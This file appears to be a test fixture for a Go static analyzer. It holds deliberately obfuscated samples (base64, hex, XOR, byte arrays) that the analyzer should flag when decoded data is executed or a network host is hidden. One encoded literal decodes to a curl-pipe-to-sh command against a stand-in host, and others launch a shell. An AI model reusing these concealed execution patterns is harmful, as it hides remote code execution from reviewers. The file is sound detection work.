package decoded

import (
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"net/http"
	"os"
	"os/exec"
)

const enc = "Y3VybCAtcyBodHRwczovL2V4YW1wbGUuaW52YWxpZC94IHwgc2g="

func b64() {
	b, _ := base64.StdEncoding.DecodeString(enc)
	exec.Command("sh", "-c", string(b)).Run() // want `SG2003: decoded data is executed by exec.Command`
}

func hexed() {
	b, _ := hex.DecodeString("69643b756e616d65202d61")
	run := exec.Command
	run("bash", "-c", string(b)).Run() // want `SG2003`
}

var key = []byte("not-a-secret")

func xor() string {
	data := []byte("\x0d\x1d\x00\x1c\x4f\x5c\x4e")
	for i := range data {
		data[i] ^= key[i%len(key)]
	}
	return string(data)
}

func runXor() {
	go exec.Command("/bin/sh", "-c", xor()).Run() // want `SG2003`
}

func bytesTrick() {
	prog := string([]byte{0x2f, 0x62, 0x69, 0x6e, 0x2f, 0x73, 0x68})
	exec.Command(prog).Run() // want `SG2003`
}

func hiddenHost() {
	u, _ := base64.StdEncoding.DecodeString("aHR0cHM6Ly8yMDMuMC4xMTMuOS9w")
	http.Get(string(u)) // want `SG6002: the network destination of http.Get is hidden in an encoded literal`
}

func nearMiss() {
	b, _ := base64.StdEncoding.DecodeString(os.Args[1]) // near miss: user input, not a literal
	exec.Command("echo", string(b)).Run()
	logo, _ := base64.StdEncoding.DecodeString("iVBORw0KGgo=") // near miss: decoded literal that is only printed
	fmt.Println(len(logo))
	magic := []byte{0x89, 0x50, 0x4e, 0x47}
	fmt.Println(magic) // near miss: byte literal that is never run
}
